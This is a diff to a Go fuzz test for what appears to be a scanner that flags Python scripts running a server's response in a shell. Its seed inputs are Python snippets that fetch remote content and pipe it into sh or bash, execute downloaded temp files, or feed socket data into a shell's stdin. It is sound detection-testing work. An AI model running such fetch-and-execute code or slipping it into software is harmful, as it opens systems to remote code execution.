@@ -8,7 +8,8 @@ import (
 // FuzzScanPyShellAnswer: no Python text, in the script or in a module it
 // imports, stops the readers of a server's answer run in a shell and of
 // the files a script writes (with items, decoder wrappers, accessor
-// chains, argument lists, mkstemp descriptors), and every finding's line
+// chains, argument lists, mkstemp descriptors, bare formattings, a
+// shell's stdin pipe and the loops around it), and every finding's line
 // is inside the script.
 func FuzzScanPyShellAnswer(f *testing.F) {
 	for _, s := range []string{
@@ -17,6 +18,10 @@ func FuzzScanPyShellAnswer(f *testing.F) {
 		"with urlopen(u) as r, open(p, 'wb') as f:\n    subprocess.run(['sh'], input=r.read())\n",
 		"fd, path = tempfile.mkstemp()\nos.write(fd, urlopen(u).read())\nsubprocess.Popen([path], start_new_session=True)\n",
 		"os.execl('/bin/sh', 'sh', '-c', json.loads(b64decode(requests.get(u).content))['x'])\n",
+		"body = requests.get(u).text\nwith subprocess.Popen(['bash', '-s'], stdin=subprocess.PIPE) as p:\n    p.communicate(input=body)\n",
+		"p = subprocess.Popen('sh', shell=True, stdin=PIPE)\nwhile True:\n    p.stdin.write(s.recv(9) + b'\\n')\n",
+		"subprocess.Popen(['sh'], stdin=PIPE).communicate(urlopen(u).read())\n", "os.system(f\"{requests.get(u).text!s}\")\n",
+		"os.system('%s' % (body,))\n", "os.system('{c}'.format(c=body))\n", "os.system(f'''{body}''')\n", "p.communicate(", "f\"{", "'%s' %", "'{}'.format(",
 		"with (urlopen(u) as r:\n", "os.system(", "subprocess.run([", "x = str(str(str(", "with a as b, c as :", "Path(d).open('wb'", "getattr(subprocess, 'Po' + 'pen')(",
 		strings.Repeat("def a():\n    return a\n", 60) + "os.system(a())",
 		strings.Repeat("(", 200) + "urlopen(u)",
